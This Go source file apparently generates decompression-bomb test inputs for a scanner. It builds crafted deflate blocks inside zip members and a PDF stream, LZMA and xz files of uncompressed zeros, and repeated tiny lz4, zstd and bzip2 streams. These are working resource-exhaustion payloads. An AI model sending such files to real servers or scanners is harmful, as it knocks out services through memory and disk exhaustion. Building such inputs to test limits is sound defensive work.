package bombs

import (
	"archive/zip"
	"bytes"
	"fmt"
)

// Streams of nothing, or of one byte, as the programs write them.
const (
	lz4Stream   = "\x04\x22\x4d\x18\x64\x40\xa7\x00\x00\x00\x00\x05\x5d\xcc\x02"
	lz4Old      = "\x02\x21\x4c\x18"
	zstdStream  = "\x28\xb5\x2f\xfd\x24\x00\x01\x00\x00\x99\xe9\xd8\x51"
	xzStream    = "\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x00\x00\x00\x00\x1c\xdf\x44\x21\x1f\xb6\xf3\x7d\x01\x00\x00\x00\x00\x04YZ"
	bzip2Stream = "BZh91AY&SYwK\xb0\x14\x00\x00\x00\x00\x80\x00\x40\x20\x00\x21\x18\x46\x82\xee\x48\xa7\x0a\x12\x0e\xe9v\x02\x80"
)

// streams returns a file of such streams.
func (s Shape) streams(one string) []byte {
	return bytes.Repeat([]byte(one), max(1, min(s.Members*max(1, s.Size/10), mostMail/len(one))))
}

// bits are written lowest first.
type bits struct {
	out   []byte
	held  uint64
	count uint
}

func (b *bits) put(v uint64, n uint) {
	b.held |= v << b.count
	for b.count += n; b.count >= 8; b.count -= 8 {
		b.out = append(b.out, byte(b.held))
		b.held >>= 8
	}
}

// block writes a block of deflate with its own codes, and some matches of 258 bytes or of
// 3 in it (RFC 1951, section 3.2.7).
func (b *bits) block(matches int, short bool) {
	for _, field := range [...]struct {
		value uint64
		bits  uint
	}{{0, 1}, {2, 2}, {29, 5}, {0, 5}, {14, 4}} { // not the last, dynamic, 286 lengths, 1 distance, 18 lengths of lengths
		b.put(field.value, field.bits)
	}
	for i := range 18 { // code lengths 18 and 1 are used
		b.put(map[int]uint64{2: 1, 17: 1}[i], 3)
	}
	zeros := func(n uint64) { b.put(1|(n-11)<<1, 8) }
	zeros(138)
	zeros(118)
	b.put(0, 1) // the end
	if short {
		b.put(0, 1) // the shortest match
		zeros(28)
	} else {
		zeros(28)
		b.put(0, 1) // the longest match
	}
	b.put(0, 1) // the distance
	for range matches {
		b.put(1, 2)
	}
	b.put(0, 1)
}

// blocks returns data of deflate in small blocks, each with its own codes.
func (s Shape) blocks(short bool) []byte {
	b := new(bits)
	b.put(0x1a<<3|2, 11) // a fixed block that begins with a byte
	b.put(0, 7)
	for range s.Members * max(1, s.Size/10) {
		if b.block(s.Name%7, short); len(b.out) > mostBlocks {
			break
		}
	}
	return b.out
}

// mostBlocks is how much blocks take, in bytes: zips around them make them small again.
const mostBlocks = 4 * mostMail

// blocksZip returns a zip whose member is unpacked from blocks.
func (s Shape) blocksZip(short bool) []byte {
	packed := s.blocks(short)
	return s.zipped(1, func(w *zip.Writer, i int) {
		f, _ := w.CreateRaw(&zip.FileHeader{Name: s.name(i) + s.Suffix, Method: zip.Deflate, CompressedSize64: uint64(len(packed)),
			UncompressedSize64: uint64(len(packed))})
		f.Write(packed) // memory takes everything
	})
}

// blocksPDF returns a PDF with a stream of blocks.
func (s Shape) blocksPDF(short bool) []byte {
	return fmt.Appendf(nil, "%%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\nx\x9c%s\nendstream endobj\n",
		s.blocks(short))
}

// literals returns a .lzma file of zeros, none of which is packed with others: of packed data that are
// zero themselves, each byte is some 40 of them.
func (s Shape) literals() []byte {
	return append([]byte("\x5d\x00\x00\x10\x00\xff\xff\xff\xff\xff\xff\xff\xff"), make([]byte, s.fitting(s.Size+1)*max(1, s.Size))...)
}

// literalChunks returns the same as xz.
func (s Shape) literalChunks() []byte {
	const most = 1 << 21 // bytes of a chunk
	packed := zerosAsLiterals(most)
	chunk := append([]byte{0xff, 0xff, 0xff, byte((packed - 1) >> 8), byte(packed - 1), 0x5d}, make([]byte, packed)...)
	out := []byte("\xfd7zXZ\x00\x00\x00\xff\x12\xd9\x41\x02\x00\x21\x01\x16\x00\x00\x00\x74\x2f\xe5\xa3")
	for range max(1, min(s.Members*max(1, s.Size), mostMail)/len(chunk)) {
		out = append(out, chunk...)
	}
	return append(out, 0)
}

// zerosAsLiterals returns how many bytes of LZMA so many zeros are that are all literals: it goes
// through the bits as a decoder does, which all are 0.
func zerosAsLiterals(n int) (packed int) {
	var kinds [4]uint32 // of symbols, by their places
	var tree [8]uint32  // of literals
	for _, p := range [...][]uint32{kinds[:], tree[:]} {
		for i := range p {
			p[i] = 1 << 10
		}
	}
	width := uint32(1<<32 - 1)
	packed = 5
	bit := func(p *uint32) {
		width = width >> 11 * *p
		*p += (1<<11 - *p) >> 5
		if width < 1<<24 {
			width <<= 8
			packed++
		}
	}
	for i := range n {
		bit(&kinds[i%4])
		for j := range tree {
			bit(&tree[j])
		}
	}
	return packed
}
